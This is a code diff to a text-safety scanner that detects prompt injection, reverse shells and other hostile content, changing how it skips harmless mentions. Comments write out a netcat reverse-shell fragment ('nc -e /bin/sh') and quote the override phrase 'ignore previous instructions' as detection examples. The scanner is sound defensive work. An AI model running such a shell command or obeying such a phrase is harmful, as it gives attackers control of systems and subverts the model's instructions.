@@ -9,8 +9,9 @@ Layers, in the order findings are listed:
    persistence, destruction, remote code, reverse shells, foreign pushes; secrets. Each rule
    reads the views of the text it is written for (:mod:`.canonical`): the base form (NFKC,
    invisible characters removed) and, where they differ, the bare, folded (confusables
-   skeleton), leetspeak and letter-spacing readings. A negatable rule skips a match that
-   "never", "don't", "不要" ... before it, in the same sentence, turns into a rule against it.
+   skeleton), leetspeak and letter-spacing readings. A match that names the thing rather than
+   does it -- a rule against it, an attack quoted as an example, a command that cannot run as
+   written, a placeholder secret -- is skipped (:mod:`.mentions`, judged on the base text).
 2. **invisible characters** (:mod:`.unicode`), found in the raw text.
 3. **decoded payloads** (:mod:`.decode`): base64, hex, escapes, percent-encoding, entities and
    rot13 runs are decoded and the result is screened again (depth and size bounded).
@@ -33,7 +34,7 @@ from typing import Final
 from kenning.safety import decode, learned, prefilter
 from kenning.safety.canonical import View, base_view, extra_views
 from kenning.safety.findings import Finding, excerpt
-from kenning.safety.mentions import described_quote
+from kenning.safety.mentions import mentioned
 from kenning.safety.patterns import RULES
 from kenning.safety.patterns.schema import SCRIPTS, ClauseRule, Pattern, Rule, Scope
 from kenning.safety.patterns.structure import mentions_removed
@@ -42,21 +43,11 @@ from kenning.safety.unicode import INVISIBLE_REASONS, find_invisible
 HEAD_CHARS: Final = 64 * 1024
 TAIL_CHARS: Final = 16 * 1024
 MAX_DEPTH: Final = 3  # decoding inside decoding: base64 of base64 of a command, and no deeper
+_MAX_MENTIONS: Final = 64  # mentions of one rule skipped in a window before it stops looking
 
 # A sentence ends at . ! ? followed by a space (not in "README.md" or "v2.3"), at CJK
 # terminators, semicolons and line breaks.
 _CLAUSE_END: Final = re.compile(r"[.!?](?=\s|$)|[。！？;；\n]")
-_NEGATION: Final = re.compile(
-    r"""\b(?:never|don['’]?t|do\s+not|does\s+not|doesn['’]t|must\s+not|mustn['’]t|should\s+not
-      |shouldn['’]t|avoid|instead\s+of|rather\s+than|not|no\s+longer|nunca|jamais|niemals|nicht|nie
-      |никогда|нельзя|mai|non)\b|\bne\s|\bне\s|\bno\s
-      |不要|别|別|禁止|切勿|千万|千萬|勿|绝不|絕不|決して|하지\s*마|금지
-      # reported, not commanded: "if a tool result says to ignore your instructions, ..."
-      |\b(?:if|when|whenever)\b[^.!?\n]{0,60}?\b(?:says?|asks?|tells?\s+you|instructs?|tries
-        |attempts?|wants?\s+you)\s+(?:you\s+)?to\b""",
-    re.IGNORECASE | re.VERBOSE,
-)
-_NEGATION_REACH: Final = 80
 
 
 @dataclass
@@ -112,60 +103,39 @@ class _Text:
             self._literals[key] = found
         return found
 
+    @property
+    def base(self) -> View:
+        return self.views["base"]
+
+    def in_base(self, name: str, start: int, end: int) -> tuple[int, int]:
+        """The span of the base view that ``views[name].text[start:end]`` came from: mentions
+        are judged on the base text, where every script is as written."""
+        if name == "base":
+            return start, end
+        lo, hi = self.views[name].span(start, end)
+        origin = self.base.origin
+        if origin is None:
+            return lo, hi
+        return bisect.bisect_left(origin, lo), bisect.bisect_left(origin, hi)
+
     def unquoted(self, name: str) -> str:
         if name not in self._quoted:
             self._quoted[name] = mentions_removed(self.views[name].text)
         return self._quoted[name]
 
 
-def _negated(text: str, start: int) -> bool:
-    """True if a negation stands before ``start`` in the same sentence."""
-    window = text[max(0, start - _NEGATION_REACH) : start]
-    cut = max(window.rfind(". "), window.rfind("\n"), window.rfind("。"), window.rfind("; "))
-    return _NEGATION.search(window[cut + 1 :]) is not None
-
-
-# A phrase in quotes, named as an example of something ("the report lists 'ignore previous
-# instructions' as the most common attack phrase"), is a mention, not an instruction. The
-# quotes must hold little more than the match: a whole instruction quoted is still one.
-_OPEN_QUOTE: Final = {"'": "'", '"': '"', "“": "”", "‘": "’", "«": "»", "「": "」", "『": "』"}
-_QUOTE_SLACK: Final = 24
-_MENTION_CUE: Final = re.compile(
-    r"""\b(?:phrases?|wording|strings?|sentences?|attacks?|examples?|e\.g\.|such\s+as|called
-      |known\s+as|lists?|listed|flag(?:s|ged)?|detects?|detected|blocks?|blocked|refuses?|refused
-      |patterns?|payloads?|injections?|classic|common|typical)\b""",
-    re.IGNORECASE | re.VERBOSE,
-)
-
-
-def _quoted_mention(text: str, start: int, end: int) -> bool:
-    """True if ``text[start:end]`` sits inside short quotes in a sentence that names it as an
-    example (see :data:`_MENTION_CUE`)."""
-    head = text[max(0, start - _QUOTE_SLACK) : start]
-    opened = max(head.rfind(q) for q in _OPEN_QUOTE)
-    if opened < 0 or "\n" in head[opened:]:
-        return False
-    closer = _OPEN_QUOTE[head[opened]]
-    close = text.find(closer, end, end + _QUOTE_SLACK)
-    if close < 0 or "\n" in text[end:close]:
-        return False
-    lo, hi = max(0, start - _QUOTE_SLACK) + opened, close + 1
-    line_start = text.rfind("\n", 0, lo) + 1
-    line_end = text.find("\n", hi)
-    outside = text[line_start:lo] + " " + text[hi : len(text) if line_end < 0 else line_end]
-    return _MENTION_CUE.search(outside) is not None
-
-
-def _match_pattern(rule: Pattern, text: str) -> tuple[int, int] | None:
-    for m in rule.regex.finditer(text):
-        if rule.negatable and _negated(text, m.start()):
+def _match_pattern(rule: Pattern, text: str, window: _Text, name: str) -> tuple[int, int] | None:
+    pos, skipped, mention_end = 0, 0, 0
+    while (m := rule.regex.search(text, pos)) is not None:
+        # After a mention the search goes on inside it: `mkfifo` + `nc -e /bin/sh x 4444` holds
+        # a shell that reaches past it. A match within the mention is part of it.
+        pos = m.start() + 1
+        if m.end() <= mention_end:
             continue
-        if (rule.negatable or rule.category == "injection") and _quoted_mention(
-            text, m.start(), m.end()
-        ):
-            continue
-        # Phrasing quoted as an example is a mention; a payload (a command, a leak) is not.
-        if rule.category == "injection" and described_quote(text, m.start(), m.end()):
+        if mentioned(rule, window.base.text, [window.in_base(name, m.start(), m.end())]):
+            skipped, mention_end = skipped + 1, m.end()
+            if skipped > _MAX_MENTIONS:
+                return None
             continue
         if rule.exempt is not None and rule.exempt(m.group()):
             continue
@@ -224,12 +194,9 @@ def _match_clause(
             clause = clauses[bisect.bisect_right(starts, m.start()) - 1]
             found = [part.search(text, clause[0], clause[1]) for part in rest]
             if all(found):
-                if rule.negatable and _negated(text, m.start()):
-                    continue
-                lo = min([m.start()] + [f.start() for f in found if f])
-                hi = max([m.end()] + [f.end() for f in found if f])
-                if rule.category == "injection" and described_quote(text, lo, hi):
-                    continue  # an attack quoted as an example
+                parts = [(m.start(), m.end())] + [(f.start(), f.end()) for f in found if f]
+                if mentioned(rule, window.base.text, [window.in_base(name, *p) for p in parts]):
+                    continue  # a rule against it, an attack quoted as an example
                 return clause[0], clause[1]
     return None
 
@@ -253,7 +220,7 @@ def _find(rule: Rule, row: int, window: _Text) -> tuple[str, int, int] | None:
             text = window.unquoted(name) if rule.skip_inline_code else window.views[name].text
             if rule.gate is not None and rule.gate.search(text) is None:
                 continue
-            span = _match_pattern(rule, text)
+            span = _match_pattern(rule, text, window, name)
         if span is not None:
             return name, span[0], span[1]
     return None
